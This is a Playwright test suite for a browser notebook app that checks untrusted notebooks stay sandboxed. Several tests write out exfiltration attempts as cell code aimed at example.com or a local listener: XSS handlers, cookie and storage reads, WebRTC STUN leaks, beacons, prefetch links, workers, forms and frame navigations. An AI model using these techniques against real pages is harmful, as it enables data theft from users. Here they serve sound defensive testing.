import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import type { BrowserContext, FrameLocator, Page } from 'playwright/test';
import { chromiumArgs, findChromium } from '../../scripts/chromium.mjs';
import { shipped } from '../../src/routes/notebook/library.ts';
import { expect, plain, test } from './workbench.ts';

const frameOf = (page: Page): FrameLocator => page.frameLocator('iframe[title^="Notebook"]');
const status = (page: Page) => page.locator('[data-state]');

const file = (cells: readonly (readonly [string, string])[]) =>
	`<!doctype html>\n<notebook theme="air">\n  <title>Guest</title>\n${cells
		.map(([type, text], i) => `  <script id="${i + 1}" type="${type}">\n    ${text}\n  </script>`)
		.join('\n')}\n</notebook>\n`;

/** Opens the editor of a cell and goes to the end of its text. */
async function write(page: Page, id: number): Promise<void> {
	await frameOf(page).locator(`#cell-${id}`).focus();
	await page.keyboard.press('Enter');
	await expect(frameOf(page).locator(`#cell-${id}`).getByRole('textbox')).toBeFocused();
	await page.keyboard.press('Control+End');
}

async function openFile(page: Page, name: string, text: string): Promise<void> {
	await page.goto('/notebook?backend=wasm');
	await expect(status(page)).toBeVisible();
	await page
		.getByLabel('Notebook file')
		.setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(text) });
	await expect(page.getByText('From elsewhere: nothing runs until you say so.')).toBeVisible();
}

test('the shipped notebooks run from top to bottom', async ({ page }) => {
	test.setTimeout(600_000);
	await page.goto(`/notebook?backend=wasm&notebook=${shipped[0]!.name}`);
	await expect(page.getByRole('radio', { name: 'C-Abstractor' })).toBeAttached({ timeout: 120_000 });
	for (const { name, title } of shipped) {
		await page.getByLabel('Notebook', { exact: true }).selectOption(name);
		await expect(frameOf(page).getByRole('heading', { level: 1, name: title })).toBeVisible({
			timeout: 60_000
		});
		// Figures and tables are there, then nothing runs any more.
		await expect
			.poll(() => frameOf(page).locator('.output svg, .output table').count(), {
				message: name,
				timeout: 180_000
			})
			.toBeGreaterThanOrEqual(2);
		await expect(status(page), name).toHaveText(/^\d+ cells$/, { timeout: 180_000 });
		await expect(frameOf(page).locator('.running, .error'), name).toHaveCount(0);
		await expect(frameOf(page).getByText(/^Not run\.|^Stopped\./), name).toHaveCount(0);
	}
});

// What is refused is logged by the browser, so this test listens to no console.
plain('a notebook from elsewhere runs nothing until trusted, and then reaches nothing', async ({ page }) => {
	const outside: string[] = [];
	// Only what the policy lets out comes by here.
	await page.context().route('https://example.com/**', (route) => {
		outside.push(route.request().url());
		return route.fulfill({ body: 'export default 1', contentType: 'text/javascript' });
	});
	const attempt = (what: string) =>
		`await (async () => { try { return String(await (${what})) } catch (error) { return "refused" } })()`;
	await openFile(
		page,
		'guest.html',
		file([
			['text/markdown', '# Guest <img src="x" onerror="document.title = 1"> <b onclick="x()">bold</b>'],
			['module', attempt('localStorage.length')],
			['module', attempt('document.cookie.length + indexedDB.open("x").readyState')],
			['module', attempt('fetch("/models/index.json").then((r) => r.status)')],
			['module', attempt('fetch("https://example.com/?stolen").then((r) => r.status)')],
			['module', attempt('parent.document.body.innerHTML')],
			['module', attempt('import("https://example.com/x.js")')]
		])
	);
	const frame = frameOf(page);
	await expect(frame.getByRole('heading', { name: 'Guest' })).toBeVisible();
	await expect(frame.getByText('Not run.')).toHaveCount(6);
	expect(await frame.locator('[onclick], [onerror]').count()).toBe(0);

	await page.getByRole('button', { name: 'Trust and run' }).click();
	// Two are refused while the cell's names are looked up, before its own code can catch it.
	const refused = frame.locator('.output', { hasText: 'refused' });
	const barred = frame.getByRole('alert').filter({ hasText: /document is sandboxed|cross-origin frame/ });
	await expect(refused.or(barred)).toHaveCount(6, { timeout: 60_000 });
	expect(outside).toEqual([]);
});

plain('the page itself runs no script and shows no frame but its own', async ({ page }) => {
	await page.goto('/notebook?backend=wasm');
	await expect(status(page)).toBeVisible();
	await page.evaluate(() => {
		const seen = Object.assign(globalThis, { seen: new Set<string>() }).seen;
		document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective));
		const script = Object.assign(document.createElement('script'), { textContent: 'window.ran = true' });
		const frame = Object.assign(document.createElement('iframe'), { src: 'https://example.com/' });
		document.body.append(script, frame);
		document.body.insertAdjacentHTML(
			'beforeend',
			'<img src="https://example.com/x.png" onerror="window.ran = true">'
		);
	});
	await expect
		.poll(() =>
			page.evaluate(() => {
				const { seen } = globalThis as typeof globalThis & { seen: Set<string> };
				return { seen: [...seen].sort(), ran: 'ran' in window };
			})
		)
		.toEqual({ seen: ['frame-src', 'img-src', 'script-src-attr', 'script-src-elem'], ran: false });
});

plain(
	'no other way out: sockets, images, windows, the page above, the frame’s own address',
	async ({ page }) => {
		const outside: string[] = [];
		await page.context().route('https://example.com/**', (route) => {
			outside.push(route.request().url());
			return route.fulfill({ body: 'here', contentType: 'text/html' });
		});
		page.on('websocket', (socket) => outside.push(socket.url()));
		const event = (make: string) =>
			`const said = await new Promise((resolve) => { try { ${make} } catch { resolve("refused") } });\n    display(said)`;
		const on =
			'one.onload = one.onopen = one.onmessage = () => resolve("reached"); one.onerror = () => resolve("refused")';
		const cells = [
			event(`const one = new WebSocket("wss://example.com/"); ${on}`),
			event(`const one = new Image(); ${on}; one.src = "https://example.com/?pixel"`),
			event(`const one = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); ${on}`),
			event(`const one = new EventSource("https://example.com/?events"); ${on}`),
			event('resolve(window.open("https://example.com/?window") ? "reached" : "refused")'),
			event('globalThis.top.location.href = "https://example.com/?top"; resolve("reached")')
		];
		await openFile(
			page,
			'ways.html',
			file(cells.map((text, i) => ['module', text.replaceAll('said', `said${i}`)]))
		);
		const frame = frameOf(page);
		await page.getByRole('button', { name: 'Trust and run' }).click();
		await expect(frame.locator('.output', { hasText: 'refused' })).toHaveCount(cells.length, {
			timeout: 60_000
		});
		expect(outside).toEqual([]);

		await openFile(
			page,
			'leaves.html',
			file([
				['text/markdown', '# Leaves ![pixel](https://example.com/?markdown)'],
				['module', 'location.href = "https://example.com/?gone"']
			])
		);
		await page.getByRole('button', { name: 'Trust and run' }).click();
		await page
			.getByRole('button', { name: 'Stop it and open the notebook again' })
			.click({ timeout: 60_000 });
		await expect(frame.getByRole('heading', { name: 'Leaves' })).toBeVisible();
		await expect(frame.getByText('Not run.')).toHaveCount(1);
		expect(outside).toEqual([]);
	}
);

/** A port of this machine that notes whatever comes, be it a connection or a packet. */
async function listen(): Promise<{ port: number; came: string[]; close: () => void }> {
	const came: string[] = [];
	const tcp = createServer((socket) => {
		came.push('connection');
		socket.on('error', () => undefined).end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
	});
	await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
	const { port } = tcp.address() as AddressInfo;
	const udp = createSocket('udp4').on('message', () => came.push('packet'));
	await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
	return { port, came, close: () => (tcp.close(), udp.close()) };
}

/** Asks a STUN server for this machine's address, as WebRTC does: that is a packet to anywhere. */
const rtc = (port: number, pc = 'RTCPeerConnection') =>
	`const pc = new ${pc}({iceServers: [{urls: "stun:127.0.0.1:${port}"}, {urls: "turn:127.0.0.1:${port}?transport=tcp", username: "u", credential: "c"}]}); pc.createDataChannel("x"); pc.createOffer().then((offer) => pc.setLocalDescription(offer))`;
const quoted = (text: string) => JSON.stringify(text).replaceAll('<', '\\u003c');
const frame = (property: string, value: string) =>
	`const f = document.createElement("iframe"); f.${property} = ${value}; document.body.append(f)`;
const link = (rel: string, url: string) =>
	`const l = document.createElement("link"); l.rel = "${rel}"; l.href = "${url}"; l.as = "image"; document.head.append(l)`;

/** Ways of a cell to the port, by what they are. */
const ways: Readonly<Record<string, (port: number, url: string) => string>> = {
	WebRTC: (port) => rtc(port),
	'WebRTC under its old name': (port) => rtc(port, 'webkitRTCPeerConnection'),
	'WebRTC in a frame of its own': (port) => frame('srcdoc', quoted(`<script>${rtc(port)}</script>`)),
	'WebRTC in a frame of a frame': (port) =>
		frame('srcdoc', quoted(`<iframe srcdoc='<script>${rtc(port)}</script>'></iframe>`)),
	'WebRTC in a frame with an event handler': (port) =>
		frame('srcdoc', quoted(`<img src="data:," onerror='${rtc(port)}'>`)),
	'WebRTC in a javascript: frame': (port) => frame('src', quoted(`javascript:${rtc(port)}`)),
	'WebRTC in a blob: frame': (port) =>
		frame(
			'src',
			`URL.createObjectURL(new Blob([${quoted(`<script>${rtc(port)}</script>`)}], {type: "text/html"}))`
		),
	'WebRTC of an empty frame': (port) =>
		`${frame('title', '""')}; ${rtc(port, 'f.contentWindow.RTCPeerConnection')}`,
	'WebRTC of the frame’s own page within it': (port) =>
		`const html = new XMLSerializer().serializeToString(document); ${frame('srcdoc', 'html')}; setTimeout(() => f.contentWindow.postMessage("honeybee-notebook", "*", [new MessageChannel().port2]), 1000); ${rtc(port, '(f.contentWindow.RTCPeerConnection)')}`,
	'a link that looks up a name': (_, url) => link('dns-prefetch', url),
	'a link that connects': (_, url) => link('preconnect', url),
	'links that fetch': (_, url) =>
		`for (const rel of ["prefetch", "prerender", "preload", "modulepreload", "stylesheet", "icon", "manifest"]) { ${link('x', url)}; l.rel = rel; document.head.append(l) }`,
	'speculation rules': (_, url) =>
		`const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{urls: ["${url}"], eagerness: "immediate"}], prerender: [{urls: ["${url}"], eagerness: "immediate"}]}); document.head.append(s)`,
	'a beacon': (_, url) => `navigator.sendBeacon("${url}", "x")`,
	'a request that outlives the page': (_, url) => `fetch("${url}", {keepalive: true, mode: "no-cors"})`,
	'a synchronous request': (_, url) =>
		`const x = new XMLHttpRequest(); x.open("GET", "${url}", false); x.send()`,
	'a socket': (port) => `new WebSocket("ws://127.0.0.1:${port}")`,
	WebTransport: (port) => `new WebTransport("https://127.0.0.1:${port}").ready.catch(() => {})`,
	'style sheets': (_, url) =>
		`const s = document.createElement("style"); s.textContent = "@import url(${url}); @font-face {font-family: x; src: url(${url})} body {font-family: x; background: url(${url}); cursor: url(${url}), auto}"; document.head.append(s)`,
	'pictures, video, objects': (_, url) =>
		`document.body.insertAdjacentHTML("beforeend", '<img src="${url}"><video autoplay poster="${url}" src="${url}"></video><object data="${url}"></object><embed src="${url}"><svg><image href="${url}" /></svg>')`,
	'a module': (_, url) => `import("${url}").catch(() => {})`,
	'a worker': (_, url) =>
		`new Worker("data:text/javascript," + encodeURIComponent('fetch("${url}", {mode: "no-cors"}); importScripts("${url}")'))`,
	'a service worker': (_, url) => `navigator.serviceWorker.register("${url}").catch(() => {})`,
	'a worklet': (_, url) => `new AudioContext().audioWorklet.addModule("${url}").catch(() => {})`,
	'a window': (_, url) => `window.open("${url}"); window.open("about:blank").location = "${url}"`,
	forms: (_, url) =>
		`document.body.insertAdjacentHTML("beforeend", '<form action="${url}" target="_blank"></form><form action="${url}"></form>'); for (const f of document.forms) f.submit()`,
	'a link with a ping': (_, url) =>
		`const a = document.createElement("a"); a.href = "#"; a.ping = "${url}"; document.body.append(a); a.click()`,
	'a frame': (_, url) => frame('src', quoted(url)),
	'a frame that goes there': (_, url) => `${frame('title', '""')}; f.contentWindow.location = "${url}"`,
	'a frame that is sent there': (_, url) =>
		frame('srcdoc', quoted(`<meta http-equiv="refresh" content="0;url=${url}"><a href="${url}"></a>`)),
	'a download': (_, url) =>
		`const a = document.createElement("a"); a.href = "${url}"; a.download = "x"; document.body.append(a); a.click()`,
	'the frame’s own address': (_, url) => `location.href = "${url}"`,
	'a refresh of the frame': (_, url) =>
		`const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${url}"; document.head.append(m)`
};

/** Ways that leave nothing of the notebook behind, if only for a moment. */
const leaves = /own address|refresh of the frame|download/;

/** Runs the ways in the cells of notebooks, all at a time, and gives those by which something came. */
async function tried(context: BrowserContext, names: readonly string[]): Promise<string[]> {
	const runs = names.filter((name) => !leaves.test(name));
	const notebooks = [
		...Array.from({ length: Math.ceil(runs.length / 12) }, (_, i) => runs.slice(12 * i, 12 * i + 12)),
		...names.filter((name) => leaves.test(name)).map((name) => [name])
	];
	const heard = new Map<string, Awaited<ReturnType<typeof listen>>>();
	for (const name of names) heard.set(name, await listen());
	const opened: Page[] = [];
	for (const [n, some] of notebooks.entries()) {
		const cells = some.map((name, i) => {
			const { port } = heard.get(name)!;
			return `await (async () => { try { ${ways[name]!(port, `http://127.0.0.1:${port}/${i}`)} } catch {} return "tried" })()`;
		});
		const page = await context.newPage();
		opened.push(page);
		await openFile(
			page,
			`ways-${n}.html`,
			file(cells.map((text) => ['module', text.replaceAll('</script', '<\\/script')]))
		);
		await page.getByRole('button', { name: 'Trust and run' }).click();
		if (!leaves.test(some[0]!))
			await expect(frameOf(page).locator('.output', { hasText: /tried|not defined|refused/ })).toHaveCount(
				some.length
			);
	}
	// Time for what was begun to arrive; nothing tells that nothing comes.
	await opened.at(-1)!.waitForTimeout(2500);
	for (const page of opened) await page.close();
	return [...heard].flatMap(([name, { came, close }]) => {
		close();
		return came.length > 0 ? [`${name}: ${came.join(', ')}`] : [];
	});
}

plain('not a packet leaves the frame, whatever a cell tries', async ({ context }) => {
	test.setTimeout(300_000);
	expect(await tried(context, Object.keys(ways))).toEqual([]);
});

plain('where no header reaches the frame, only navigations connect', async ({ context }) => {
	test.setTimeout(300_000);
	await context.route('**/notebook-frame.html', async (route) => {
		const response = await route.fetch();
		const { 'connection-allowlist': allowed, ...headers } = response.headers();
		expect(allowed).toBe('()');
		await route.fulfill({ response, headers });
	});
	// Chromium looks up and connects to where a frame is sent before its policy is asked; nothing is said there.
	const navigations = /a frame|own address|refresh of the frame|download|that goes there|sent there/;
	const quiet = Object.keys(ways).filter((name) => /WebRTC/.test(name) || !navigations.test(name));
	expect(await tried(context, quiet)).toEqual([]);
	// The listener hears what does get out.
	await expect(async () => {
		expect(await tried(context, ['a frame'])).toEqual([expect.stringMatching(/^a frame: connection/)]);
	}).toPass();
});

/** A page whose frames have a process of their own, as in a reader's browser; pages of other tests share one (playwright.config.ts). */
const apart = plain.extend({
	page: async ({ playwright, baseURL, viewport }, use) => {
		const browser = await playwright.chromium.launch({
			executablePath: findChromium(),
			args: [...chromiumArgs]
		});
		await use(await browser.newPage({ viewport, ...(baseURL !== undefined && { baseURL }) }));
		await browser.close();
	}
});

apart('a cell that never gives way is stopped, and the notebook goes on', async ({ page }) => {
	await openFile(
		page,
		'loop.html',
		file([
			['text/markdown', '# Loop with $x^2$'],
			['module', 'const six = 2 * 3'],
			['module', 'while (true) {}']
		])
	);
	await page.getByRole('button', { name: 'Trust and run' }).click();
	await expect(page.getByText('A cell has not given way for some seconds.')).toBeVisible({ timeout: 30_000 });
	// The rest of the page is in hand all the time.
	await page.getByRole('link', { name: 'Models' }).focus();
	await page.getByRole('button', { name: 'Stop it and open the notebook again' }).click();
	const frame = frameOf(page);
	await expect(frame.getByRole('heading', { name: 'Loop' })).toBeVisible({ timeout: 30_000 });
	await expect(frame.locator('math')).toHaveCount(1);
	await expect(page.getByText('A cell has not given way')).toHaveCount(0);
	await expect(frame.getByText('Not run.')).toHaveCount(2);

	// Its text is there to be mended, and the other cells run.
	await write(page, 3);
	await page.keyboard.press('Control+a');
	await page.keyboard.type('six * 7');
	await page.keyboard.press('Control+Enter');
	await expect(frame.getByRole('alert')).toHaveText('six is not defined');
	await frame.locator('#cell-2').focus();
	await page.keyboard.press('Control+Enter');
	await expect(frame.locator('#cell-3 .output')).toHaveText('42');
});

plain('writing: keys, order of running, errors at the cell, undo, saving', async ({ page }) => {
	await page.goto('/notebook?backend=wasm');
	await expect(status(page)).toBeVisible();
	await page.getByRole('button', { name: 'New' }).click();
	const frame = frameOf(page);
	await expect(frame.getByRole('heading', { name: 'Untitled' })).toBeVisible({ timeout: 60_000 });

	// A cell that comes before what it depends on.
	await frame.getByRole('button', { name: 'Add JavaScript' }).click();
	await page.keyboard.type('b * 2');
	await page.keyboard.press('Alt+Enter');
	await expect(frame.getByRole('alert')).toHaveText(/b is not defined/);
	await page.keyboard.type('const b = 21');
	await page.keyboard.press('Shift+Enter');
	await expect(frame.locator('#cell-2 .output')).toHaveText('42');

	// Only an error, in its place, with its line.
	await page.keyboard.type('const c = ;');
	await page.keyboard.press('Control+Enter');
	await expect(frame.locator('#cell-4 .error')).toHaveText(/SyntaxError.*\(1:10\)/);
	await expect(frame.locator('#cell-2 .output')).toHaveText('42');

	await frame.locator('#cell-4').focus();
	await page.keyboard.press('d');
	await page.keyboard.press('d');
	await expect(frame.locator('section')).toHaveCount(3);
	await page.keyboard.press('z');
	await expect(frame.locator('section')).toHaveCount(4);

	// Text that Notebook Kit itself does not bring back, and a cell that was made and never written in.
	await write(page, 4);
	await page.keyboard.press('Control+a');
	await page.keyboard.insertText('`<!-- <script>\n  \n`.length');
	await page.keyboard.press('Control+Enter');
	await expect(frame.locator('#cell-4 .output')).toHaveText('17');
	await frame.getByRole('button', { name: 'Add JavaScript' }).click();
	await expect(frame.locator('section')).toHaveCount(5);

	await expect(page.getByText('Saved in this browser.')).toBeVisible();
	await page.reload();
	await expect(frame.locator('#cell-2 .output')).toHaveText('42', { timeout: 120_000 });
	await expect(frame.locator('#cell-4 .output')).toHaveText('17');
	await expect(frame.locator('section')).toHaveCount(4);
	// Only the page scrolls.
	const inner = page.frames().at(-1)!;
	await expect
		.poll(() => inner.evaluate(() => document.documentElement.scrollHeight > innerHeight + 1))
		.toBe(false);
});

plain(
	'only what changed runs again; a cell that waits is stopped, and what waits for it',
	async ({ page }) => {
		await openFile(
			page,
			'order.html',
			file([
				['module', 'const left = 1'],
				['module', 'const right = 10'],
				['module', '`left ran ${globalThis.l = (globalThis.l ?? 0) + 1} with ${left}`'],
				['module', '`right ran ${globalThis.r = (globalThis.r ?? 0) + 1} with ${right}`'],
				['module', 'const late = await new Promise(() => {})'],
				['module', 'late + 1'],
				['module', 'const part = right;\n\n    nowhere(part);\n    display(part)'],
				['module', 'status7 + 1'],
				['module', 'const status7 = status6'],
				['module', 'null.x']
			])
		);
		await page.getByRole('button', { name: 'Trust and run' }).click();
		const frame = frameOf(page);
		const output = (id: number) => frame.locator(`#cell-${id} .output`);
		await expect(output(3)).toHaveText('"left ran 1 with 1"', { timeout: 60_000 });
		await expect(output(4)).toHaveText('"right ran 1 with 10"');
		await expect(page.getByText('2 of 10 cells running')).toBeVisible();

		await write(page, 1);
		await page.keyboard.type('7');
		await page.keyboard.press('Control+Enter');
		await expect(output(3)).toHaveText('"left ran 2 with 17"');
		await expect(output(4)).toHaveText('"right ran 1 with 10"');

		await frame.locator('#cell-5').focus();
		await page.keyboard.press('i');
		await expect(frame.locator('#cell-5 .state')).toHaveText('Stopped.');
		await expect(frame.locator('#cell-6 .state')).toHaveText('Stopped.');
		await expect(page.getByText('10 cells, 4 failed')).toBeVisible();

		await expect(frame.locator('#cell-7 .error')).toHaveText('nowhere is not defined');
		await expect(frame.locator('#cell-8 .error')).toHaveText('status7: status6 is not defined');
		await expect(frame.locator('#cell-9 .error')).toHaveText('status6 is not defined');
		await expect(frame.locator('#cell-10 .error')).toHaveText(/^TypeError: .*null.* \(1:6\)$/);
	}
);

plain('TypeScript, TeX, completion and kinds of cell', async ({ page }) => {
	await openFile(
		page,
		'kinds.html',
		file([
			['text/x-typescript', 'const most: number = ((xs: readonly number[]) => Math.max(...xs))([3, 9])'],
			['text/x-typescript', 'const wrong: = 1'],
			['application/x-tex', 'M = ${most}^2 \\frac{a}{b}'],
			[
				'text/markdown',
				'most is ${most}, <script>document.title = "no"<\\/script><a href="javascript:x()">x</a>'
			],
			['module', 'most']
		])
	);
	const frame = frameOf(page);
	await page.getByRole('button', { name: 'Trust and run' }).click();
	await expect(frame.locator('#cell-5 .output')).toHaveText('9', { timeout: 60_000 });
	await expect(frame.locator('#cell-2 .error')).toHaveText(/SyntaxError: /);
	await expect(frame.locator('#cell-3 mfrac')).toHaveCount(1);
	await expect(frame.locator('#cell-3 math')).toContainText('9');
	// Drawn with KaTeX's own fonts.
	await expect(frame.locator('#cell-3 .katex-html')).toBeVisible();
	const inner = page.frames().at(-1)!;
	await expect.poll(() => inner.evaluate(() => document.fonts.check('16px KaTeX_Main'))).toBe(true);
	await expect(frame.locator('#cell-4 .output')).toContainText('most is 9');
	await expect(frame.locator('.md script, .md [href^="javascript"]')).toHaveCount(0);

	// Completion: names of the workbench, members of a library, names of the notebook; chosen with the arrows.
	await write(page, 5);
	await page.keyboard.press('Control+a');
	await page.keyboard.type('loc');
	await expect(frame.getByRole('option', { name: /^locality/ })).toBeVisible();
	await page.keyboard.press('Escape');
	await page.keyboard.press('Control+a');
	await page.keyboard.type('d3.ext');
	await expect(frame.getByRole('option', { name: 'd3.extent' })).toBeVisible();
	await page.keyboard.press('Escape');
	await page.keyboard.press('Control+a');
	await page.keyboard.type('mo');
	await expect(frame.getByRole('option', { name: /^most.*defined in this notebook/ })).toBeVisible();
	await page.keyboard.type('del.');
	await expect(frame.getByRole('option', { name: /^model\.ask/ })).toBeVisible();
	// While it looks for more, and for a moment after, the editor takes no key, so that typing on does not choose.
	const offered = frame.locator('.cm-tooltip-autocomplete').getByRole('option');
	await expect(offered.filter({ hasNotText: /^model\./ })).toHaveCount(0);
	await expect(frame.locator('.cm-tooltip-autocomplete-disabled')).toHaveCount(0);
	await expect(async () => {
		await page.keyboard.press('ArrowDown');
		await expect(offered.nth(1)).toHaveAttribute('aria-selected', 'true', { timeout: 500 });
	}).toPass();
	await page.keyboard.press('Enter');
	await expect(frame.locator('#cell-5 .cm-content')).toHaveText(/^model\.(trace|file|figure)$/);

	// The kind of a cell is chosen at it.
	await page.keyboard.press('Control+a');
	await page.keyboard.type('a^2');
	await frame.getByLabel('Kind of cell 5').selectOption('TeX');
	await frame.locator('#cell-5').focus();
	await page.keyboard.press('Control+Enter');
	await expect(frame.locator('#cell-5 msup')).toHaveCount(1);
	await expect(page.getByText('Saved in this browser.')).toBeVisible();
	const download = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Download' }).click();
	expect(readFileSync(await (await download).path(), 'utf8')).toContain(
		'<script id="5" type="application/x-tex">\n    a^2\n  </script>'
	);
});

plain('the standard library of Notebook Kit, files beside the notebook, imports', async ({ page }) => {
	const names = readFileSync('tests/fixtures/cases/notebook-standard-library/names.html', 'utf8');
	const more: readonly (readonly [string, string])[] = [
		['module', 'const rows = FileAttachment("data/table.csv").csv({typed: true});'],
		['module', 'display(d3.sum(rows, (d) => d.b))'],
		['module', 'import {twice} from "./twice.js"; display(twice(21))'],
		['module', 'import * as aq from "npm:arquero"; display(aq.table({a: [1, 2]}).numRows())'],
		['module', 'import {sankey} from "npm:d3-sankey@0.12"; display(typeof sankey)'],
		['module', 'import {x} from "npm:left-pad"; display(x)'],
		['module', 'import {six} from "./other.html"'],
		['module', 'FileAttachment("missing.csv").text()'],
		['module', 'display(penguins)'],
		['application/vnd.observable.javascript', 'mutable clicks = 0'],
		['application/vnd.observable.javascript', 'clicks'],
		['text/html', '<button id="more" onclick=${() => mutable$clicks.value++}>more</button>'],
		['module', 'const kept = view(Inputs.range([0, 10], {value: 2, step: 1, label: "Kept"}));'],
		['module', 'display(`kept ${kept}`)'],
		['module', 'six * 7'],
		['application/x-tex', '\\sqrt{2}']
	];
	const scripts = more.map(
		([type, text], i) => `  <script id="${101 + i}" type="${type}">\n    ${text}\n  </script>\n`
	);
	const notebook = names.replace('</notebook>', () => `${scripts.join('')}</notebook>`);
	const text = (name: string, text: string) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });
	const from = { name: 'other.html', mimeType: 'text/html' };

	await openFile(
		page,
		'other.html',
		file([['module', 'const two = 2, six = two * 3']]).replace('Guest', 'Other')
	);
	await page
		.getByLabel('Notebook file')
		.setInputFiles([
			{ ...from, name: 'names.html', buffer: Buffer.from(notebook) },
			text('table.csv', 'a,b\n1,2\n3,4\n'),
			text('twice.js', 'const by = 2;\nexport const twice = (x) => by * x;\nexport default twice;\n')
		]);
	const frame = frameOf(page);
	await expect(frame.getByRole('heading', { name: /^Prices/ })).toBeVisible();
	await page.getByRole('button', { name: 'Trust and run' }).click();
	const output = (id: number) => frame.locator(`#cell-${id} .output`);
	const shows: Readonly<Record<number, string | RegExp>> = {
		3: '7',
		4: 'true',
		5: '"function"',
		6: 'bold',
		8: 'x',
		9: 'false',
		12: '0',
		13: /^\d+$/,
		14: 'Array(3) [0, 1, 2]',
		15: 'Hello 3',
		16: '42',
		18: '43',
		29: 'x',
		31: /SQL cells need DuckDB/,
		102: '6',
		103: '42',
		104: '2',
		105: '"function"',
		106: /left-pad does not come with the workbench, .*arquero, d3/,
		108: /There is no file “missing\.csv” beside this notebook/,
		109: /penguins is a sample data set/,
		111: '0',
		114: '"kept 2"',
		115: '42'
	};
	for (const [id, shown] of Object.entries(shows))
		await expect(output(Number(id)), `cell ${id}`).toHaveText(shown, { timeout: 60_000 });
	await expect(output(7).locator('circle')).toHaveCount(1);
	await expect(output(19).locator('svg ellipse')).toHaveCount(2);
	// A root is a drawing as high as what stands under it.
	const root = output(116).locator('.katex svg');
	await expect.poll(() => root.evaluate((svg) => svg.getBoundingClientRect().height)).toBeGreaterThan(10);
	await expect(page.getByText('49 cells, 4 failed')).toBeVisible();

	await frame.getByRole('button', { name: 'more', exact: true }).click();
	await expect(output(111)).toHaveText('1');
	await frame.getByRole('spinbutton', { name: 'Kept' }).fill('7');
	await expect(output(114)).toHaveText('"kept 7"');
	await expect(page.getByText('Saved in this browser.')).toBeVisible();
	await page.reload();
	await expect(output(114)).toHaveText('"kept 7"', { timeout: 120_000 });
	await expect(output(102)).toHaveText('6');
	const download = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Download' }).click();
	expect((await download).suggestedFilename()).toBe('names-of-the-standard-library.zip');

	// The reference beside the editor names what was used.
	await page.getByRole('button', { name: 'Reference' }).click();
	await expect(page.getByRole('complementary', { name: 'Reference' })).toContainText('FileAttachment');
});

plain('a Jupyter notebook comes as text, and leaves in the open format', async ({ page }) => {
	const notebook = {
		nbformat: 4,
		metadata: { language_info: { name: 'python' } },
		cells: [
			{ cell_type: 'markdown', source: ['# From Jupyter\n', 'with $x^2$ and ${1 + 1}'] },
			{ cell_type: 'code', source: 'print("hello")\n', outputs: [] }
		]
	};
	await openFile(page, 'old.ipynb', JSON.stringify(notebook));
	const frame = frameOf(page);
	await page.getByRole('button', { name: 'Trust and run' }).click();
	await expect(frame.getByRole('heading', { name: 'From Jupyter' })).toBeVisible();
	await expect(frame.locator('pre code')).toHaveText('print("hello")');
	await expect(frame.locator('math')).toHaveCount(1);
	await expect(frame.getByText('${1 + 1}')).toBeVisible();
	await expect(page.getByText('Saved in this browser.')).toBeVisible();
	const download = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Download' }).click();
	const file = await download;
	expect(file.suggestedFilename()).toBe('from-jupyter.html');
	expect(readFileSync(await file.path(), 'utf8')).toMatch(/^<!doctype html>\n<notebook theme="air">/);
});

test('two tabs do not overwrite each other', async ({ page, context }) => {
	await page.goto('/notebook?backend=wasm');
	await expect(status(page)).toBeVisible();
	await page.getByRole('button', { name: 'New' }).click();
	await expect(frameOf(page).getByRole('heading', { name: 'Untitled' })).toBeVisible({ timeout: 60_000 });
	await expect(page).toHaveURL(/notebook=[0-9a-f-]{36}/);

	const other = await context.newPage();
	await other.goto(page.url());
	await expect(other.getByText(/is open in another tab/)).toBeVisible({ timeout: 60_000 });
	await other.getByRole('button', { name: 'Take it over' }).click();
	await expect(page.getByText(/is open in another tab/)).toBeVisible();
	await expect(other.getByText(/is open in another tab/)).toHaveCount(0);

	await frameOf(other).getByRole('button', { name: 'Add Markdown' }).click();
	await other.keyboard.type('# From the other tab');
	await expect(other.getByText('Saved in this browser.')).toBeVisible();
	// The tab that only reads follows.
	await expect(frameOf(page).getByRole('heading', { name: 'From the other tab' })).toBeVisible();
});
